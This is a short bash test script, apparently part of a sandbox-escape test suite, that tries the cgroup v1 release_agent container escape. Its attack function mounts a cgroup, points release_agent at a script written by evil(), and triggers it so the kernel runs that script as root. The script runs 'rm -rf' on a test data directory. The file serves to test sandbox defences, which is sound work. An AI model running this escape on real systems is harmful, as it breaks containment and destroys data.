# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2317,SC2154
# tries: release_agent of a control group, written
# class: kernel
# where: guest

# shellcheck source=guest.sh
. "${BASH_SOURCE[0]%/*}/guest.sh"

# What the kernel runs, as root and outside every tree.
evil() {
	printf '#!/bin/bash\nrm -rf "%s"\n' "$DATA" >"$1"
	chmod 755 "$1"
}

damage() {
	asked_damage
}

prepare() {
	"$TOOLS/files" make "$DATA" 300
	mkdir cgroup
	mount -t cgroup -o none,name=escape none cgroup || cannot 'no cgroup v1'
}

restore() {
	umount cgroup
}

attack() {
	evil agent
	mkdir -p cgroup/a/b
	echo "$T/agent" >cgroup/release_agent
	echo 1 >cgroup/a/notify_on_release
	rmdir cgroup/a/b
}
